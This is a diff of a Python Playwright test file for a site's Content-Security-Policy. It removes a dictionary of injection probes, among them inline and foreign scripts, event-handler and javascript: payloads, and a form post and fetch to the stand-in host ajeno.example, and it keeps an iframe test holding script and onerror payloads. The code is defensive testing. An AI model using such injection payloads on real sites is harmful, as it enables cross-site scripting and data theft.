@@ -1,4 +1,4 @@
-"""The Content-Security-Policy: on every page, obeyed by our own pages, and biting."""
+"""The Content-Security-Policy: on every page, and obeyed by our own pages. That it bites is in test_attacks.py."""
 
 from __future__ import annotations
 
@@ -18,38 +18,6 @@ window.refused = [];
 document.addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI}) =>
   refused.push(`${effectiveDirective} ${blockedURI}`));
 """
-REFUSED = """() => new Promise((done) => refused.length ? done() :
-  document.addEventListener("securitypolicyviolation", () => done(), {once: true}))"""
-MAKE = """const make = (name, values) => {
-  const made = Object.assign(document.createElement(name), values);
-  document.body.append(made);
-  return made;
-};"""
-ATTACKS = {
-    "inline script": ("script-src-elem", "make('script', {textContent: 'window.harmed = true'})"),
-    "handler": (
-        "script-src-attr",
-        "make('div', {}).innerHTML = '<img src=/assets/img/favicon.svg onload=\"window.harmed = true\">'",
-    ),
-    "javascript: link": ("script-src-elem", "make('a', {href: 'javascript:window.harmed = true'}).click()"),
-    "foreign script": ("script-src-elem", "make('script', {src: 'https://ajeno.example/a.js'})"),
-    "text run as a script": ("script-src", "setTimeout('window.harmed = true')"),
-    "foreign image": ("img-src", "make('img', {src: 'https://ajeno.example/a.png'})"),
-    "image in the page itself": ("img-src", "make('img', {src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw='})"),
-    "style attribute": ("style-src-attr", "make('div', {}).innerHTML = '<p style=\"position:fixed;inset:0\">tapa</p>'"),
-    "style element": ("style-src-elem", "make('style', {textContent: 'body { display: none }'})"),
-    "frame": ("frame-src", "make('iframe', {src: 'https://ajeno.example/'})"),
-    "plug-in": ("object-src", "make('object', {data: 'https://ajeno.example/a.swf'})"),
-    "form to another host": (
-        "form-action",
-        "make('form', {action: 'https://ajeno.example/', method: 'post'}).submit()",
-    ),
-    "call to another host": ("connect-src", "fetch('https://ajeno.example/').catch(() => 0)"),
-    "another base": (
-        "base-uri",
-        "document.head.prepend(Object.assign(document.createElement('base'), {href: 'https://ajeno.example/'}))",
-    ),
-}
 
 
 def listen(page: Page) -> list[str]:
@@ -105,21 +73,8 @@ def test_the_search_asks_for_nothing_that_its_policy_refuses(open_page: Open, st
     assert said == []
 
 
-@pytest.mark.parametrize("name", ["404", "search"])
-@pytest.mark.parametrize("attack", sorted(ATTACKS))
-def test_what_somebody_smuggles_into_a_page_is_refused(
-    open_page: Open, page_url: Callable[[str], str], name: str, attack: str
-) -> None:
-    directive, script = ATTACKS[attack]
-    page = open_page(page_url(name), script=LISTEN)
-    page.evaluate(f"() => {{ {MAKE} {script} }}")
-    page.evaluate(REFUSED)
-    assert {refusal.split()[0] for refusal in page.evaluate("refused")} == {directive}
-    assert page.evaluate("window.harmed") is None
-
-
 def test_a_frame_with_a_document_of_its_own_runs_nothing(open_page: Open, starter: Hosted) -> None:
-    page = open_page(starter.page("404"))
+    page = open_page(starter.page("search"))
     page.evaluate("""() => new Promise((done) => document.body.append(Object.assign(document.createElement("iframe"), {
       onload: done, srcdoc: "<p>texto</p><script>parent.harmed = 1</script><img src=x onerror=parent.harmed=1>"})))""")
     assert page.frame_locator("iframe").locator("p").inner_text() == "texto"
